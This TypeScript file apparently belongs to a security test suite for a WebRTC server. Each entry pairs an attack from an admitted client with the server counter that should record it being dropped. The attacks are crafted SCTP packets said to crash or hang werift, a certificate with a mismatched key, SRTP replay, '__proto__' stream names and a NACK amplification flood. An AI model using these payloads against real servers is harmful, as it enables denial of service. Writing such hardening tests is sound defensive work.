/** What a client that has been admitted like any other can do. */
import { randomInt, randomUUID } from 'node:crypto';
import {
  FIRST_MID,
  LoadPeer,
  LoadSession,
  MID_EXTENSION_ID,
  offerOf,
  RID_EXTENSION_ID,
  RtcpChannel,
  RtpSender,
  readRemoteDescription,
  SIMULCAST_RIDS,
  writeOffer,
} from '@causeway/loadtest';
import { createCertificate } from '@causeway/secure/bare';
import { peekRtpSeq, peekRtpSsrc, sctpChecksum, writeChecksum } from '@causeway/wire';
import { type Attack, type AttackContext, type AttackReport, discarded, dropped } from './attack.ts';
import { BareSuite } from './bare-suite.ts';
import { pour } from './stranger.ts';

const SILENT_LISTENER = { onSrtp() {}, onSrtcp() {} };
const PAYLOAD_BYTES = 200;
const HANDSHAKE_FAILED = 'causeway_sessions_closed_total{reason="handshake_failed"}';

const DCEP_ACK = chunk(0, Buffer.from('00000001000600000000003202', 'hex'));
/** Each of these ended a process of werift. */
const DEADLY_SCTP = [
  Buffer.alloc(3),
  Buffer.from(sctp(chunk(1, initBody()))).fill(0xee, 8, 12),
  sctp(chunk(0, Buffer.from('0000000100000000000000633f', 'hex'))),
  sctp(DCEP_ACK),
];
/** Each of these kept werift busy forever. */
const ENDLESS_SCTP = [
  sctp(chunk(11, Buffer.alloc(0), 0)),
  sctp(chunk(1, initBody(Buffer.from('c0000000', 'hex')))),
  sctp(chunk(1, initBody())),
];

export const ATTACKS_OF_CLIENTS: readonly Attack[] = [
  {
    name: 'W04',
    what: 'SCTP packets that end the process of werift',
    counted: [discarded('sctp', 'malformedPackets')],
    mount: (context) => speakSctp(context, DEADLY_SCTP),
  },
  {
    name: 'W05',
    what: 'SCTP chunks and parameters of length 0',
    counted: [discarded('sctp', 'malformedPackets')],
    mount: (context) => speakSctp(context, ENDLESS_SCTP),
  },
  { name: 'W08', what: 'joins with a certificate whose key is another', counted: [HANDSHAKE_FAILED], mount: impersonate },
  { name: 'W09', what: 'a stream of which every packet is sent five times', counted: [dropped('srtp-replayed')], mount: replay },
  { name: 'W10', what: 'streams whose RID is __proto__ and the like', counted: [dropped('unknown-ssrc')], mount: nameStreams },
  { name: 'W11', what: 'thirty NACKs a second for 4,930 packets each', counted: [dropped('rtx-suppressed')], mount: askForEverything },
];

async function speakSctp({ api, durationMs }: AttackContext, packets: readonly Buffer[]): Promise<AttackReport> {
  const suite = new BareSuite({ certificate: await createCertificate(new Date()), manners: 'polite' });
  const session = await LoadSession.join({ api, suite }, { listener: SILENT_LISTENER });
  let sent = 0;
  await pour(1000, durationMs, () => suite.association?.send(Uint8Array.from(packets[sent++ % packets.length] ?? [])));
  await session.leave();
  return { sent };
}

async function impersonate({ api, durationMs }: AttackContext): Promise<AttackReport> {
  const [copied, other] = await Promise.all([createCertificate(new Date()), createCertificate(new Date())]);
  const certificate = { ...copied, privateKey: other.privateKey };
  const peers: LoadPeer[] = [];
  let admitted = 0;
  const join = async (): Promise<void> => {
    const peer = new LoadPeer(new BareSuite({ certificate, manners: 'polite' }), SILENT_LISTENER);
    peers.push(peer);
    const { sessionDescription } = await api.createSession(offerOf(writeOffer(peer.local, undefined)));
    await peer.connect(readRemoteDescription(sessionDescription.sdp).transport);
    admitted++;
  };
  await pour(20, durationMs, () => void join().catch(() => undefined));
  for (const peer of peers) peer.close();
  return { sent: peers.length, unit: 'joins', ...(admitted === 0 ? {} : { success: `${admitted} were let in` }) };
}

async function replay(context: AttackContext): Promise<AttackReport> {
  const ssrc = randomInt(1, 2 ** 32);
  const track = { streamId: randomUUID(), trackId: randomUUID(), encodings: { ssrc } };
  const { peer, ...session } = await joinWith(context, track);
  let sent = 0;
  const repeating = {
    endpoint: peer.endpoint,
    send(packet: Uint8Array) {
      for (let copy = 0; copy < 5; copy++) peer.send(packet);
      sent += 5;
    },
  };
  const sender = new RtpSender(context.suite, repeating, { ssrc, firstSequenceNumber: 1 });
  await pour(200, context.durationMs, () => sendPacket(sender, sent));
  await session.leave();
  return { sent };
}

async function nameStreams(context: AttackContext): Promise<AttackReport> {
  const track = { streamId: randomUUID(), trackId: randomUUID(), encodings: { rids: SIMULCAST_RIDS } };
  const { peer, ...session } = await joinWith(context, track);
  const senders = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf', 'prototype'].map((rid) => {
    const extensions = [
      { id: MID_EXTENSION_ID, value: Buffer.from(FIRST_MID) },
      { id: RID_EXTENSION_ID, value: Buffer.from(rid) },
    ];
    return new RtpSender(context.suite, peer, { ssrc: randomInt(1, 2 ** 32), firstSequenceNumber: 1, extensions });
  });
  let sent = 0;
  await pour(1000, context.durationMs, () => sendPacket(senders[sent++ % senders.length], sent));
  await session.leave();
  return { sent };
}

async function askForEverything(context: AttackContext): Promise<AttackReport> {
  let newest: { readonly ssrc: number; readonly sequence: number } | undefined;
  let received = 0;
  const onSrtp = (packet: Buffer): void => {
    received++;
    newest = { ssrc: peekRtpSsrc(packet), sequence: peekRtpSeq(packet) };
  };
  const session = await LoadSession.join(context, { listener: { onSrtp, onSrtcp() {} } });
  await session.subscribe(context.track);
  const rtcp = new RtcpChannel(context.suite, session.peer);
  let sent = 0;
  await pour(30, context.durationMs, () => {
    if (newest === undefined) return;
    rtcp.send(nackForEverything(newest.ssrc, newest.sequence));
    sent++;
  });
  await session.leave();
  const originals = (250 * context.durationMs) / 1000;
  return { sent, unit: 'NACKs', ...(received > 1.5 * originals ? { success: `${received} packets came of ${originals}` } : {}) };
}

/** Returns 290 entries of seventeen numbers each, the latest first (RFC 4585 §6.2.1). */
function nackForEverything(mediaSsrc: number, newest: number): Uint8Array {
  const entries = 290;
  const packet = new DataView(new ArrayBuffer(12 + entries * 4));
  packet.setUint32(0, 0x81cd_0000 + 2 + entries);
  packet.setUint32(8, mediaSsrc);
  for (let entry = 0; entry < entries; entry++) {
    packet.setUint16(12 + entry * 4, newest - 16 - entry * 17);
    packet.setUint16(14 + entry * 4, 0xffff);
  }
  return new Uint8Array(packet.buffer);
}

async function joinWith(context: AttackContext, track: Parameters<typeof writeOffer>[1] & object) {
  const session = await LoadSession.join(context, { listener: SILENT_LISTENER, track });
  return { peer: session.peer, leave: () => session.leave() };
}

function sendPacket(sender: RtpSender | undefined, timestamp: number): void {
  sender?.send({ payloadType: 96, marker: true, timestamp: timestamp >>> 0, payloadBytes: PAYLOAD_BYTES }, (payload) => payload.fill(7));
}

function chunk(type: number, body: Buffer, claimedLength = body.length + 4): Buffer {
  const header = Buffer.of(type, 0, claimedLength >> 8, claimedLength & 0xff);
  return Buffer.concat([header, body, Buffer.alloc((4 - (body.length % 4)) % 4)]);
}

function initBody(...parameters: Buffer[]): Buffer {
  return Buffer.concat([Buffer.from('123456780010000004000400004d0000', 'hex'), ...parameters]);
}

/** The packet has ports 5000, verification tag 0, and a correct checksum. */
function sctp(...chunks: readonly Buffer[]): Buffer {
  const packet = Buffer.concat([Buffer.from('138813880000000000000000', 'hex'), ...chunks]);
  writeChecksum(packet, sctpChecksum(packet));
  return packet;
}
